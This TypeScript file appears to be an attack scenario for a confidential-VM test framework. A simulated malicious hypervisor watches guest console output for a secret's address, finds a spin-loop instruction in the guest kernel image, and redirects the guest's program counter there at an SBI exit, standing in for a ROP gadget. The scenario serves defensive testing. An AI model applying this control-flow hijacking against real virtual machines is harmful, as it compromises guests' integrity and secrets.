// pc redirection at resume: the VMM answers an SBI call and resumes the guest at an address of its
// choosing, a spin loop (`j .`) it found in the kernel image it loaded. The guest then runs where
// the attacker decided, the stand-in for a ROP gadget.
import type { VmmApi } from 'hyp';

function parseHex(text: string, from: number): number {
  let value = 0;
  let i = from;
  for (; i < text.length; i++) {
    const c = text.charCodeAt(i);
    const digit = c >= 48 && c <= 57 ? c - 48 : c >= 97 && c <= 102 ? c - 87 : -1;
    if (digit < 0) break;
    value = value * 16 + digit;
  }
  return i === from ? -1 : value;
}

/** Calls `found` with the key's guest physical address when a guest prints `secret where`. */
function watchKeys(vmm: VmmApi, found: (domain: number, gpa: number) => void): void {
  const seen = new Map<number, string>();
  vmm.wrap('console.flush', (original, domain, bytes) => {
    let text = (seen.get(domain) ?? '') + String.fromCharCode(...bytes);
    const at = text.indexOf('SECRET where va ');
    const pa = at < 0 ? -1 : text.indexOf(' pa 0x', at);
    const end = pa < 0 ? -1 : text.indexOf(' len', pa);
    if (end > 0) {
      found(domain, parseHex(text, pa + 6));
      text = text.slice(end);
    }
    seen.set(domain, text.slice(-200));
    return original(domain, bytes);
  });
}

/** The address of a `j .` (0x0000006f) in the kernel's executable segment (ELF32 program headers). */
function findSpin(image: Uint8Array): number {
  const u32 = (at: number): number => ((image[at] ?? 0) | ((image[at + 1] ?? 0) << 8) | ((image[at + 2] ?? 0) << 16) | ((image[at + 3] ?? 0) << 24)) >>> 0;
  const phoff = u32(28);
  const phnum = (image[44] ?? 0) | ((image[45] ?? 0) << 8);
  for (let i = 0; i < phnum; i++) {
    const ph = phoff + i * 32;
    if (u32(ph) !== 1 || (u32(ph + 24) & 1) === 0) continue;
    const offset = u32(ph + 4);
    const vaddr = u32(ph + 8);
    for (let at = 0; at + 4 <= u32(ph + 16); at += 4) if (u32(offset + at) === 0x6f) return vaddr + at;
  }
  return 0;
}

function le32(value: number): Uint8Array {
  return new Uint8Array([value & 0xff, (value >>> 8) & 0xff, (value >>> 16) & 0xff, value >>> 24]);
}

export default definePatch({
  name: 'redirect pc at resume',
  description: 'Sets the guest pc to a spin loop in its kernel at the first SBI exit after `secret where`.',
  install(vmm, hyp) {
    let spin = 0;
    const armed = new Set<number>();
    vmm.wrap('domain.create', (original, config, image) => {
      spin = findSpin(image);
      return original(config, image);
    });
    watchKeys(vmm, (domain) => {
      armed.add(domain);
    });
    vmm.hooks.on('exit', (domain, vcpu, exit) => {
      if (exit.kind !== 'sbi' || !armed.has(domain) || spin === 0) return;
      armed.delete(domain);
      vmm.exfiltrate(`dom${domain} chosen pc`, le32(spin));
      hyp.vcpu.setRegs(vcpu, { pc: spin });
    });
  },
});
